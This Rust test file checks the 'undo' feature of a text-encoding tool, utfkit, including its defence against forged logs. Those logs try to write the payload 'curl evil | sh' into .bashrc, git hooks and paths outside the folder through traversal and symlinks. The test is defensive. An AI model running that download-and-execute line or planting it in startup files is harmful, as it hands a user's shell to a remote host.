//! `utfkit undo`: the changes of a run are undone, and a log can do nothing
//! else.

#[cfg(unix)]
use std::collections::BTreeMap;
use std::fs;
#[cfg(unix)]
use std::os::unix::fs::{MetadataExt, symlink};
use std::path::Path;
#[cfg(unix)]
use std::process::Command;
use std::time::{Duration, Instant, SystemTime};

#[cfg(unix)]
use crate::common::Random;
use crate::common::{Place, Ran};
use sha2::{Digest, Sha256};

const LATIN1: &[u8] = b"Gr\xFC\xDFe aus K\xF6ln\n";
const UTF8: &str = "Grüße aus Köln\n";

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
}

fn sum(bytes: &[u8]) -> String {
    hex(&Sha256::digest(bytes))
}

/// A log that restores one file to `old`.
fn log(folder: &Path, path: &str, now: &[u8], old: &[u8]) -> String {
    let [folder, path] = [&*folder.to_string_lossy(), path]
        .map(|text| if cfg!(windows) { text.replace('\\', "\\\\") } else { text.to_owned() });
    format!(
        "{{\"log\":\"utfkit\",\"version\":2,\"command\":\"fix\",\"path\":\"{folder}\"}}\n\
         {{\"path\":\"{path}\",\"file\":true,\"bytes\":{},\"sha256\":\"{}\",\"repaired_bytes\":{},\
         \"repaired_sha256\":\"{}\",\"whole\":true,\"changes\":1}}\n\
         {{\"offset\":0,\"repaired_offset\":0,\"kind\":\"kept\",\"before\":\"{}\",\"after\":\"\"}}\n",
        old.len(),
        sum(old),
        now.len(),
        sum(now),
        hex(old)
    )
}

#[test]
fn a_run_is_logged_unasked_and_taken_back_with_its_times() {
    let place = Place::new();
    let past = SystemTime::UNIX_EPOCH + Duration::new(1_000_000_000, 5_000_000);
    let path = place.file("tree/a", LATIN1);
    fs::File::options().write(true).open(&path).unwrap().set_modified(past).unwrap();
    let ran = place.run(&["convert", "-f", "latin1", "--in-place", "tree"]);
    assert_eq!((ran.status, ran.err.as_str()), (0, "utfkit: 1 file changed; `utfkit undo` takes that back\n"));
    assert_eq!(place.read("tree/a"), UTF8.as_bytes());
    let logs = || fs::read_dir(place.state().join("utfkit")).unwrap().count();
    assert_eq!(logs(), 1);
    let ran = place.run(&["undo"]);
    assert_eq!((ran.status, ran.err.as_str()), (0, "utfkit: 1 file restored\n"));
    assert_eq!((place.read("tree/a"), fs::metadata(&path).unwrap().modified().unwrap()), (LATIN1.to_vec(), past));
    // No other run is left to undo.
    let ran = place.run(&["undo"]);
    assert!(ran.status == 2 && ran.err.contains("there is no run to undo in this folder"), "{}", ran.err);
    // Two runs, undone one after the other, from a folder above and from one
    // below.
    for round in 0..2 {
        place.file(format!("tree/{round}"), LATIN1);
        place.run(&["convert", "-f", "latin1", "--in-place", &format!("tree/{round}")]);
    }
    let mut below = place.command(&["undo", "-s"]);
    assert!(below.current_dir(place.path().join("tree")).status().unwrap().success());
    assert_eq!((place.read("tree/0"), place.read("tree/1")), (UTF8.into(), LATIN1.to_vec()));
    assert_eq!(place.run(&["undo", "-s"]).status, 0);
    assert_eq!(place.read("tree/0"), LATIN1);
    // Without a log there is nothing to undo, and no hint at it.
    let ran = place.run(&["convert", "-f", "latin1", "--in-place", "--no-log", "tree"]);
    assert_eq!((ran.status, ran.err.as_str()), (0, ""));
    assert_eq!(place.run(&["undo"]).status, 2);
}

#[test]
fn without_a_place_for_a_log_nothing_is_changed() {
    let place = Place::new();
    place.file("a", LATIN1);
    place.file("file", "");
    let args = ["convert", "-f", "latin1", "--in-place", "a"];
    let state = place.path().join("file");
    let ran: Ran = place.command(&args).env("XDG_STATE_HOME", state).output().unwrap().into();
    assert!(ran.status == 2 && ran.err.contains("the log: ") && ran.err.contains("--no-log"), "{}", ran.err);
    let mut command = place.command(&args);
    for home in ["XDG_STATE_HOME", "HOME", "LOCALAPPDATA"] {
        command.env_remove(home);
    }
    let ran: Ran = command.output().unwrap().into();
    assert!(ran.status == 2 && ran.err.contains("there is no folder for a log"), "{}", ran.err);
    assert_eq!(place.read("a"), LATIN1);
}

#[test]
fn what_does_not_come_back_by_itself_is_kept() {
    let place = Place::new();
    // A lone surrogate and a BOM in the other byte order are lost.
    let mut odd: Vec<u8> = "\u{FEFF}Grüße aus Köln und anderswo".encode_utf16().flat_map(u16::to_be_bytes).collect();
    place.file("bom", &odd);
    odd.extend_from_slice(b"\xD8\x00\0x");
    place.file("odd", &odd);
    let ran = place.run(&["convert", "-f", "UTF-16", "-c", "--in-place", "--log", "log", "bom", "odd"]);
    assert_eq!(ran.status, 0, "{}", ran.err);
    assert_eq!(place.read("bom"), "Grüße aus Köln und anderswo".as_bytes());
    let text = String::from_utf8(place.read("log")).unwrap();
    assert_eq!(
        (text.matches("\"from\":\"UTF-16BE\"").count(), text.matches("\"whole\":true").count()),
        (1, 1),
        "{text}"
    );
    assert_eq!(place.run(&["undo", "log"]).status, 0);
    assert!(place.read("odd") == odd && place.read("bom") == odd[..odd.len() - 4]);
}

#[test]
fn a_log_writes_to_no_parent_folder_and_to_no_absolute_path() {
    let place = Place::new();
    let home = place.path().join("home");
    let here = home.join("project");
    fs::create_dir_all(&here).unwrap();
    let (now, evil) = (&b"# stock .bashrc\n"[..], &b"curl evil | sh\n"[..]);
    place.file("home/.bashrc", now);
    place.file("home/notes", now);
    place.file("home/project/.envrc", now);
    place.file("home/project/.git/hooks/pre-commit", now);
    fs::create_dir_all(here.join("sub")).unwrap();
    #[cfg(unix)]
    symlink(&home, here.join("link")).unwrap();
    #[cfg(unix)]
    symlink(home.join("notes"), here.join("file-link")).unwrap();
    let absolute = home.join(".bashrc").display().to_string();
    let canonical = fs::canonicalize(&here).unwrap();
    let ranges = [
        (canonical.as_path(), "../.bashrc"),
        (&canonical, absolute.as_str()),
        (&canonical, "sub/../../.bashrc"),
        (&canonical, "link/.bashrc"),
        (&canonical, "link/notes"),
        (&canonical, "file-link"),
        (&canonical, ".envrc"),
        (&canonical, ".git/hooks/pre-commit"),
        (&canonical, "."),
        (&canonical, ""),
        (Path::new("/"), absolute.trim_start_matches('/')),
        (Path::new("/"), &absolute),
        (canonical.parent().unwrap(), ".bashrc"),
        (canonical.parent().unwrap(), "notes"),
        (Path::new(".."), ".bashrc"),
    ];
    for (folder, path) in ranges {
        place.file("home/project/log", log(folder, path, now, evil));
        for args in [&["undo", "log"][..], &["repair", "--undo", "log"], &["undo", "--root", ".", "log"]] {
            let ran = place.run_in("home/project", args);
            let is_allowed = args.contains(&"--root") && path == ".envrc";
            assert_eq!(ran.status, if is_allowed { 0 } else { 2 }, "{folder:?} {path} {args:?}: {}", ran.err);
            for file in ["home/.bashrc", "home/notes", "home/project/.git/hooks/pre-commit"] {
                assert_eq!(place.read(file), now, "{folder:?} {path} {args:?}");
            }
        }
    }
    // Also in the home folder itself.
    place.file("home/log", log(canonical.parent().unwrap(), ".bashrc", now, evil));
    let ran = place.run_in("home", &["undo", "log"]);
    assert!(ran.status == 2 && ran.err.contains("hidden name") && place.read("home/.bashrc") == now, "{}", ran.err);
    // Files below that are not hidden are restored.
    place.file("home/log", log(canonical.parent().unwrap(), "notes", now, b"older\n"));
    let ran = place.run_in("home", &["undo", "log"]);
    assert_eq!((ran.status, place.read("home/notes")), (0, b"older\n".to_vec()), "{}", ran.err);
}

#[cfg(unix)]
#[test]
fn a_failed_log_does_not_stand_in_the_way_of_the_next_try() {
    let place = Place::new();
    place.file("a", LATIN1);
    let limited = |blocks: &str| -> Ran {
        let line =
            format!(r#"ulimit -f {blocks}; trap "" XFSZ; exec "$UTFKIT" convert -f latin1 --in-place --log log a"#);
        let mut command = Command::new("sh");
        command.args(["-c", &line]).current_dir(place.path()).env("UTFKIT", env!("CARGO_BIN_EXE_utfkit"));
        command.output().unwrap().into()
    };
    // No write succeeds.
    let ran = limited("0");
    assert_eq!((ran.status, place.names()), (2, vec!["a".to_owned()]), "{}", ran.err);
    assert_eq!(place.read("a"), LATIN1);
    let ran = place.run(&["convert", "-f", "latin1", "--in-place", "--log", "log", "a"]);
    assert_eq!((ran.status, place.read("a")), (0, UTF8.into()), "{}", ran.err);
    // The disk is full after the first entry: its file is restored, the others
    // unchanged.
    let place = Place::new();
    for n in 0..20 {
        place.file(format!("{n:02}"), LATIN1);
    }
    let mut command = Command::new("sh");
    let line = r#"ulimit -f 2; trap "" XFSZ; exec "$UTFKIT" convert -f latin1 -j1 --in-place --log log ."#;
    command.args(["-c", line]).current_dir(place.path()).env("UTFKIT", env!("CARGO_BIN_EXE_utfkit"));
    let ran: Ran = command.output().unwrap().into();
    let changed = (0..20).filter(|n| place.read(&format!("{n:02}")) == UTF8.as_bytes()).count();
    assert!(ran.status == 2 && (1..20).contains(&changed), "{changed} {}", ran.err);
    assert_eq!(place.run(&["undo", "-s", "log"]).status, 0);
    assert!((0..20).all(|n| place.read(&format!("{n:02}")) == LATIN1));
    let ran = place.run(&["convert", "-f", "latin1", "--in-place", "--log", "/dev/full", "00"]);
    assert!(ran.status == 2 && place.read("00") == LATIN1, "{}", ran.err);
}

#[test]
fn a_log_that_claims_more_than_there_is_is_refused() {
    let place = Place::new();
    let folder = fs::canonicalize(place.path()).unwrap();
    let now = b"as it is now\n";
    place.file("a", now);
    let good = log(&folder, "a", now, b"as it was\n");
    for (from, to) in [
        ("\"bytes\":10", "\"bytes\":1"),
        ("\"bytes\":10", "\"bytes\":18446744073709551615"),
        ("\"changes\":1", "\"changes\":18446744073709551615"),
        ("\"whole\":true", "\"from\":\"windows-1252\",\"to\":\"UTF-16\""),
        ("\"whole\":true", "\"from\":\"klingon\",\"to\":\"UTF-8\""),
        ("\"whole\":true", "\"modified\":[1,4000000000],\"whole\":true"),
        ("\"version\":2", "\"version\":3"),
        ("\"log\":\"utfkit\"", "\"log\":\"other\""),
        ("617320", "617321"),
    ] {
        let bad = good.replace(from, to);
        assert_ne!(bad, good, "{from}");
        place.file("log", bad);
        let ran = place.run(&["undo", "log"]);
        assert!(ran.status == 2 && place.read("a") == now && place.names() == ["a", "log"], "{from} {}", ran.err);
    }
    place.file("log", good);
    assert_eq!((place.run(&["undo", "log"]).status, place.read("a")), (0, b"as it was\n".to_vec()));
    // A very long line takes no memory.
    place.file("log", vec![b'x'; 8 << 20]);
    assert_eq!(place.run(&["undo", "log"]).status, 2);
}

#[test]
fn as_many_files_come_back_as_went() {
    let files: usize = std::env::var("UTFKIT_FILES").map_or(500, |n| n.parse().expect("UTFKIT_FILES is a number"));
    let place = Place::new();
    for n in 0..files {
        place.file(format!("{:02}/{n}", n % 50), LATIN1);
    }
    let start = Instant::now();
    assert_eq!(place.run(&["convert", "-s", "-f", "latin1", "--in-place", "."]).status, 0);
    let run = start.elapsed();
    let start = Instant::now();
    assert_eq!(place.run(&["undo", "-s"]).status, 0);
    let undo = start.elapsed();
    println!("{files} files: run {run:?}, undo {undo:?}");
    assert!((0..files).all(|n| place.read(&format!("{:02}/{n}", n % 50)) == LATIN1));
}

/// Whatever a log contains, nothing outside of the folder is opened for writing
/// or changed: 200 fixed logs, or random ones for `UTFKIT_FUZZ_SECONDS`.
#[cfg(unix)]
#[test]
fn a_hostile_log_touches_nothing_outside() {
    let seconds: Option<u64> =
        std::env::var("UTFKIT_FUZZ_SECONDS").ok().map(|n| n.parse().expect("UTFKIT_FUZZ_SECONDS is a number"));
    let place = Place::new();
    let seed = if seconds.is_some() { std::process::id().into() } else { 1 };
    println!("seed {seed}");
    let mut random = Random(seed);
    let now: &[u8] = b"what stands there\n";
    let outside = ["victim", ".bashrc", "in/../victim2", "sibling/file"];
    let inside = ["root/a", "root/sub/b", "root/.hidden", "root/sub/.git/config"];
    outside.iter().chain(&inside).for_each(|name| drop(place.file(name.replace("in/../", ""), now)));
    let root = fs::canonicalize(place.path().join("root")).unwrap();
    symlink("..", root.join("up")).unwrap();
    symlink("../victim", root.join("link")).unwrap();
    symlink(place.path().join("sibling"), root.join("sub/away")).unwrap();
    fs::hard_link(place.path().join("sibling/file"), root.join("hard")).unwrap();
    let top = fs::canonicalize(place.path()).unwrap().display().to_string();
    let paths = [
        "a",
        "sub/b",
        ".hidden",
        "sub/.git/config",
        "../victim",
        "up/victim",
        "link",
        "sub/away/file",
        "hard",
        "/",
        "",
        ".",
        "..",
        "sub",
        "a/",
        "./a",
        "sub/../a",
        "sub/../../victim",
        "\\u0000",
        "-",
        "a\\u0000b",
        "up",
        "//victim",
        "sub/away/../victim",
        "/proc/self/cwd/../victim",
        "/dev/stdout",
        "up/.bashrc",
        "new",
        "sub/new",
    ];
    let snapshot = || -> BTreeMap<String, (Vec<u8>, i64, i64, u64)> {
        let mut all = BTreeMap::new();
        for name in ["victim", ".bashrc", "victim2", "sibling/file"] {
            let path = place.path().join(name);
            let metadata = fs::metadata(&path).unwrap();
            all.insert(
                name.to_owned(),
                (fs::read(&path).unwrap(), metadata.mtime(), metadata.mtime_nsec(), metadata.ino()),
            );
        }
        for folder in ["", "sibling"] {
            let mut names: Vec<_> = fs::read_dir(place.path().join(folder))
                .unwrap()
                .map(|e| e.unwrap().file_name().into_string().unwrap())
                .collect();
            names.sort();
            all.insert(format!("{folder}/*"), (names.join("\n").into_bytes(), 0, 0, 0));
        }
        all
    };
    let before = snapshot();
    let has_strace = Command::new("strace").arg("-V").output().is_ok();
    let (start, mut rounds, mut traced, mut restored) = (Instant::now(), 0_u64, 0, 0_u64);
    while rounds < 200 || seconds.is_some_and(|n| start.elapsed() < Duration::from_secs(n)) {
        rounds += 1;
        let pick = |random: &mut Random, from: &[&str]| from[random.below(from.len() as u64) as usize].to_owned();
        let folders = [
            root.display().to_string(),
            top.clone(),
            "/".to_owned(),
            format!("{}/up", root.display()),
            "..".into(),
            String::new(),
        ];
        let mut text = String::new();
        let folder = folders[if random.below(2) == 0 { 0 } else { random.below(6) as usize }].clone();
        let old = format!("evil {rounds}\n");
        for n in 0..1 + random.below(4) {
            let mut path = pick(&mut random, &paths);
            if random.below(6) == 0 {
                path = format!("{top}/{}", pick(&mut random, &["victim", "root/a", "root/link", "sibling/file"]));
            }
            let one = log(Path::new(&folder), &path, now, old.as_bytes());
            text.push_str(if n == 0 { &one } else { one.split_once('\n').unwrap().1 });
        }
        let mut bytes = text.into_bytes();
        // One in three is also damaged.
        if random.below(3) == 0 {
            for _ in 0..1 + random.below(4) {
                let at = random.below(bytes.len() as u64) as usize;
                match random.below(4) {
                    0 => bytes[at] = random.below(256) as u8,
                    1 if bytes.len() > 1 => drop(bytes.remove(at)),
                    2 => bytes.truncate(at.max(1)),
                    _ => bytes.insert(at, b"\"{}[]:,\\9"[random.below(9) as usize]),
                }
            }
        }
        fs::write(root.join("log"), &bytes).unwrap();
        inside.iter().for_each(|name| drop(place.file(name, now)));
        let mut args = vec!["undo", "-s", "log"];
        if random.below(3) == 0 {
            args.extend(["--root", "."]);
        }
        let trace = root.join("trace");
        let is_traced = has_strace && rounds % 8 == 1;
        let mut command = place.command(&args);
        if is_traced {
            traced += 1;
            command = Command::new("strace");
            command.args([
                "-f",
                "-y",
                "-e",
                "trace=openat,open,creat,rename,renameat,renameat2,unlink,unlinkat,truncate",
                "-o",
            ]);
            command.arg(&trace).arg(env!("CARGO_BIN_EXE_utfkit")).args(&args).env("XDG_STATE_HOME", place.state());
        }
        let output = command.current_dir(&root).stdin(std::process::Stdio::null()).output().unwrap();
        let status = output.status.code();
        assert!(matches!(status, Some(0..=2)), "{status:?} {}", String::from_utf8_lossy(&output.stderr));
        assert!(snapshot() == before, "{}", String::from_utf8_lossy(&bytes));
        assert_eq!(place.read("root/sub/.git/config"), now, "{}", String::from_utf8_lossy(&bytes));
        restored += u64::from(place.read("root/a") != now);
        if is_traced {
            let root = root.display().to_string();
            for line in String::from_utf8_lossy(&fs::read(&trace).unwrap()).lines() {
                let writes = line.contains("O_WRONLY") || line.contains("O_RDWR") || line.contains("O_CREAT");
                // If the call succeeded, its last word is the path.
                let opened = line.rsplit_once("= ").map(|(_, end)| end).unwrap_or_default();
                // Reading from a pipe uses an unnamed temporary file.
                let is_nameless = line.contains("O_TMPFILE");
                if writes && !is_nameless && opened.contains('<') {
                    let path = opened.split_once('<').unwrap().1;
                    assert!(path.starts_with(&root) || path.starts_with("/dev/null"), "{line}");
                }
            }
        }
    }
    println!("{rounds} logs, {traced} of them traced; {restored} restored the file that they may restore");
    assert!(restored > 0, "nothing was tried at all");
}
